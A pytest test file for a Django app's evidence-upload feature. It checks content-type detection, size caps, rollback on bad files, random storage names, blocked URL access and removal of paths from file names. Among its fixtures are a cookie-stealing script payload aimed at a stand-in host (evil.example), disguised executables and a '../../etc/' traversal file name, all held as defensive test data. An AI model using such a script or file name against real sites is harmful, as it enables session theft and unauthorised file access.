"""Evidence files (佐证材料): the type comes from the content, the size is capped, and a bad file saves
nothing of the update it came with."""

import io
from pathlib import Path

import docx
import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from partyreview.common.errors import ActionRefused
from partyreview.rectifications import services
from partyreview.rectifications.models import Evidence, ProgressUpdate, RectificationStatus
from tests.factories import pdf_upload, png_upload

HTML = b"<!doctype html><html><body><script>document.location='http://evil.example/'+document.cookie</script>"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200


def _upload(name: str, body: bytes, content_type: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, body, content_type=content_type)


def _stored_files(settings) -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.fixture
def pending(world):
    return world.rectification(world.a1)


def _post_progress(client, r, files):
    return client.post(
        reverse("rectifications:progress", args=[r.pk]), {"note": "上传会议记录", "version": r.version, "files": files}
    )


def _assert_nothing_saved(r, settings) -> None:
    r.refresh_from_db()
    assert r.status == RectificationStatus.PENDING
    assert not ProgressUpdate.objects.filter(rectification=r).exists()
    assert not Evidence.objects.exists()
    assert _stored_files(settings) == []


@pytest.mark.parametrize(
    ("upload", "message"),
    [
        (_upload("会议记录.jpg", HTML), "类型不被允许或与扩展名不符"),
        (_upload("照片.jpg", ELF), "类型不被允许或与扩展名不符"),
        (_upload("整改报告.pdf", EXE, "application/pdf"), "类型不被允许或与扩展名不符"),
        (_upload("setup.exe", EXE, "application/octet-stream"), "类型不被允许或与扩展名不符"),
        (_upload("page.html", HTML, "text/html"), "类型不被允许或与扩展名不符"),
        (_upload("照片.png", pdf_upload().read(), "image/png"), "类型不被允许或与扩展名不符"),
        (_upload("空白.pdf", b"", "application/pdf"), "是空文件"),
    ],
    ids=["html-as-jpg", "elf-as-jpg", "exe-as-pdf", "exe", "html", "pdf-as-png", "empty"],
)
def test_bad_file_is_refused_beside_the_field_and_saves_nothing(world, client_for, pending, settings, upload, message):
    response = _post_progress(client_for(world.sam), pending, [pdf_upload("好文件.pdf"), upload])
    assert response.status_code == 200
    html = response.content.decode()
    errors = html[html.index('id="id_files_errors"') :]
    assert message in errors[: errors.index("</div>\n  </div>")]
    assert upload.name in errors
    assert "上传会议记录" in html  # the note is kept for the next try
    _assert_nothing_saved(pending, settings)


def test_oversized_file_is_refused_with_the_limit(world, client_for, pending, settings):
    settings.EVIDENCE_MAX_BYTES = 1024
    big = pdf_upload("大文件.pdf").read() + b"%" * 2048
    response = _post_progress(client_for(world.sam), pending, [_upload("大文件.pdf", big, "application/pdf")])
    html = response.content.decode()
    assert "文件“大文件.pdf”大小为 2.1 KB，超过 1 KB 的限制" in html
    assert "单个文件不超过 1 KB" in html
    _assert_nothing_saved(pending, settings)


def test_every_bad_file_is_named_at_once(world, client_for, pending, settings):
    response = _post_progress(
        client_for(world.sam), pending, [_upload("a.jpg", HTML), _upload("b.jpg", ELF), _upload("c.pdf", b"")]
    )
    html = response.content.decode()
    for name in ("a.jpg", "b.jpg", "c.pdf"):
        assert f"文件“{name}”" in html
    _assert_nothing_saved(pending, settings)


def test_service_refuses_bad_files_whoever_calls_it(world, pending, settings):
    with pytest.raises(ActionRefused):
        services.rectification_record_progress(
            actor=world.sam, rectification=pending, note="绕过表单", files=[pdf_upload(), _upload("x.jpg", HTML)]
        )
    _assert_nothing_saved(pending, settings)


@pytest.mark.parametrize(
    ("name", "body", "content_type"),
    [
        ("佐证.pdf", pdf_upload().read(), "application/pdf"),
        ("照片.png", png_upload().read(), "image/png"),
        ("照片.JPG", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 100, "image/jpeg"),
    ],
)
def test_allowed_files_are_stored_under_random_names(world, pending, name, body, content_type):
    services.rectification_record_progress(
        actor=world.sam, rectification=pending, note="上传", files=[_upload(name, body, content_type)]
    )
    evidence = Evidence.objects.get()
    assert (evidence.original_name, evidence.content_type, evidence.size) == (name, content_type, len(body))
    stored = Path(evidence.file.name)
    assert stored.parts[0] == "evidence"
    assert name.split(".")[0] not in evidence.file.name
    assert len(stored.stem) == 32


def test_office_documents_are_allowed(world, pending):
    word, sheet = io.BytesIO(), io.BytesIO()
    docx.Document().save(word)
    openpyxl.Workbook().save(sheet)
    services.rectification_record_progress(
        actor=world.sam,
        rectification=pending,
        note="制度文件",
        files=[_upload("制度.docx", word.getvalue(), "application/msword"), _upload("台账.xlsx", sheet.getvalue(), "")],
    )
    assert sorted(Evidence.objects.values_list("content_type", flat=True)) == [
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ]


def test_uploaded_files_are_not_reachable_by_url(world, client_for, pending, settings):
    services.rectification_record_progress(actor=world.sam, rectification=pending, note="上传", files=[pdf_upload()])
    evidence = Evidence.objects.get()
    assert client_for(world.sam).get(settings.MEDIA_URL + evidence.file.name).status_code == 404


def test_path_in_the_file_name_is_dropped(world, pending):
    services.rectification_record_progress(
        actor=world.sam, rectification=pending, note="上传", files=[pdf_upload("../../etc/会议<记录>.pdf")]
    )
    evidence = Evidence.objects.get()
    assert evidence.original_name == "会议记录.pdf"
    assert ".." not in evidence.file.name
